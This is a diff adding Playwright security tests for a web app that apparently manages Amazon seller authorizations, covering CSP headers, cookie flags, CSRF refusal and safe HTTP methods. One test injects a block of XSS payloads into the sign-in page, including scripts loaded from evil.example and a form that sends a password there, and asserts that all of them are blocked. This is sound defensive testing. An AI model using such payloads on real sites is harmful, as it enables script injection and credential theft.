@@ -1,0 +1,195 @@
+import { randomUUID } from 'node:crypto'
+import { expect } from '@playwright/test'
+import { Client } from './client.ts'
+import { authorizationOf, type Sql } from './database.ts'
+import { test } from './fixtures.ts'
+import { connect, signUp } from './story.ts'
+
+const start = '/authorize?marketplace=ATVPDKIKX0DER&partner=seller'
+
+async function newestAttempt(sql: Sql) {
+  const [row] = await sql`select id, status, received_at from attempt order by started_at desc limit 1`
+  return row
+}
+
+test('every page brings the rules that keep other sites and scripts away (D1, D2)', async ({
+  page,
+  demo,
+  amazon,
+  database,
+  anotherBrowser,
+  signInAsOperator,
+}) => {
+  const partner = await amazon.addPartner()
+  await signUp(page)
+  await connect(page, partner)
+  const id = (await authorizationOf(database, partner))?.id
+  const office = await anotherBrowser()
+  await signInAsOperator(office)
+  const visitor = new Client(demo.app)
+  const seller = await Client.of(page.context(), demo.app)
+  const operator = await Client.of(office.context(), demo.app)
+  const pages: [Client, string][] = [
+    ...['/', '/sign-in', '/sign-up', '/setup', '/nowhere', '/authorize', '/sp-api/auth', start].map(
+      (path): [Client, string] => [visitor, path],
+    ),
+    ...['/', '/connect/connections', '/connect/me', `/connect/${id}/re-authorize`, '/ops'].map(
+      (path): [Client, string] => [seller, path],
+    ),
+    ...['/ops', `/ops/authorizations/${id}`, '/ops/attempts', '/ops/calls', '/ops/people', '/ops/me'].map(
+      (path): [Client, string] => [operator, path],
+    ),
+    [operator, '/ops/data/authorizations'],
+  ]
+  for (const [client, path] of pages) {
+    const { headers, status } = await client.ask(path)
+    expect(status, path).toBeLessThan(500)
+    const policy = headers['content-security-policy'] ?? ''
+    for (const rule of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) {
+      expect(policy, path).toContain(rule)
+    }
+    expect(policy, path).toMatch(/script-src 'self' 'nonce-[\w+/=]{20,}' 'strict-dynamic';/)
+    expect(headers, path).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+      'cache-control': expect.stringContaining('no-store'),
+    })
+    expect(headers['referrer-policy'], path).toBe(
+      /^\/(authorize|sp-api)/.test(path) ? 'no-referrer' : 'same-origin',
+    )
+    expect(headers, path).not.toHaveProperty('x-powered-by')
+  }
+})
+
+const smuggled = `
+  <script>window.smuggled = 'inline'</script>
+  <img src="data:," onerror="window.smuggled = 'handler'">
+  <script src="data:text/javascript,window.smuggled='data'"></script>
+  <script src="https://evil.example/x.js"></script>
+  <base href="https://evil.example/">
+  <object data="data:text/html,<script>top.smuggled = 'object'</script>"></object>
+  <iframe srcdoc="<script>top.smuggled = 'frame'</script>"></iframe>
+  <form id="away" action="https://evil.example/"><input name="password"></form>`
+
+test('what somebody smuggles into a page does not run, and sends nothing away (D1)', async ({
+  page,
+  allowOnConsole,
+}) => {
+  allowOnConsole(/Content Security Policy|violates/)
+  const outside: string[] = []
+  await page.route('https://evil.example/**', (route) => {
+    outside.push(route.request().url())
+    return route.abort()
+  })
+  await page.route('**/sign-in', async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${smuggled}</body>`) })
+  })
+  await page.goto('/sign-in')
+  await expect(page.locator('#away')).toBeAttached()
+  const blocked = page.evaluate(
+    () =>
+      new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          if (effectiveDirective === 'form-action') resolve(effectiveDirective)
+        })
+        document.querySelector<HTMLFormElement>('#away')?.submit()
+      }),
+  )
+  expect(await blocked).toBe('form-action')
+  expect(await page.evaluate(() => Reflect.get(window, 'smuggled'))).toBeUndefined()
+  expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
+  expect(outside).toEqual([])
+})
+
+test('cookies are HttpOnly, SameSite and of this host alone (D3)', async ({ page, amazon, demo }) => {
+  await signUp(page)
+  await connect(page, await amazon.addPartner())
+  const cookies = await page.context().cookies(demo.app)
+  expect(cookies.map(({ name }) => name).sort()).toEqual(['gatehouse.attempt', 'next-auth.session-token'])
+  for (const cookie of cookies) {
+    expect(cookie, cookie.name).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' })
+    expect(cookie.domain, cookie.name).toBe('localhost')
+  }
+  expect(await page.evaluate(() => document.cookie)).toBe('')
+})
+
+const foreignHeaders: Readonly<Record<string, string>>[] = [
+  { origin: 'https://evil.example' },
+  { origin: 'null' },
+  { 'sec-fetch-site': 'cross-site' },
+  { 'sec-fetch-site': 'same-site' },
+  { 'sec-fetch-site': 'none' },
+  { origin: 'https://evil.example', host: 'evil.example' },
+  { origin: 'https://evil.example', 'x-forwarded-host': 'evil.example' },
+  {},
+]
+
+test('a form that another site sends is refused, and changes nothing (D4)', async ({
+  page,
+  amazon,
+  database,
+  demo,
+}) => {
+  const partner = await amazon.addPartner()
+  await signUp(page)
+  await connect(page, partner)
+  const seller = await Client.of(page.context(), demo.app)
+  const form = disconnectForm((await seller.ask('/connect/connections')).body)
+  const post = (path: string, headers: Readonly<Record<string, string>>) =>
+    seller.ask(path, { method: 'POST', headers: { ...headers, 'content-type': form.type }, body: form.body })
+
+  for (const headers of foreignHeaders) {
+    for (const path of ['/connect/connections', '/', '/ops', '/sign-in', '/authorize', '/api/auth/signout']) {
+      const { status, body } = await post(path, headers)
+      expect(status, `${path} ${JSON.stringify(headers)}`).toBe(403)
+      expect(body).toContain('from another site')
+    }
+  }
+  expect(await authorizationOf(database, partner)).toMatchObject({ disconnectedAt: null })
+
+  await post('/connect/connections', { origin: demo.app, 'sec-fetch-site': 'same-origin' })
+  expect(
+    await authorizationOf(database, partner),
+    'the very same form works from our own page',
+  ).toMatchObject({ disconnectedAt: expect.any(Date) })
+})
+
+test('looking at an address changes nothing; a link preview begins and ends nothing (D4)', async ({
+  page,
+  amazon,
+  database,
+  demo,
+}) => {
+  const partner = await amazon.addPartner()
+  await signUp(page)
+  const seller = await Client.of(page.context(), demo.app)
+  const before = await newestAttempt(database)
+  expect((await seller.ask(start, { method: 'HEAD' })).status).toBe(200)
+  expect(await newestAttempt(database)).toEqual(before)
+
+  const { headers } = await seller.ask(start)
+  const back = await amazon.confirm(headers.location ?? '', partner)
+  expect((await seller.ask(back, { method: 'HEAD' })).status).toBe(200)
+  expect(await newestAttempt(database)).toMatchObject({ status: 'started', received_at: null })
+  for (const method of ['PUT', 'DELETE', 'PATCH', 'POST']) {
+    const { status } = await seller.ask(back, { method, headers: { origin: demo.app } })
+    expect(status, method).toBe(405)
+  }
+  const finish = (await seller.ask(back)).headers.location ?? ''
+  for (const method of ['GET', 'HEAD']) expect((await seller.ask(finish, { method })).status).toBe(200)
+  expect(await newestAttempt(database)).toMatchObject({ status: 'received' })
+})
+
+/** What a browser without a script would send to disconnect the first connection of the page. */
+function disconnectForm(html: string): { readonly type: string; readonly body: string } {
+  const form = /<form[^>]*>(?:(?!<\/form>).)*name="id"(?:(?!<\/form>).)*<\/form>/s.exec(html)?.[0] ?? ''
+  const boundary = randomUUID()
+  const parts = [...form.matchAll(/<input type="hidden" name="([^"]+)"(?: value="([^"]*)")?/g)].map(
+    ([, name, value = '']) =>
+      `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value.replaceAll('&quot;', '"')}\r\n`,
+  )
+  return { type: `multipart/form-data; boundary=${boundary}`, body: `${parts.join('')}--${boundary}--\r\n` }
+}
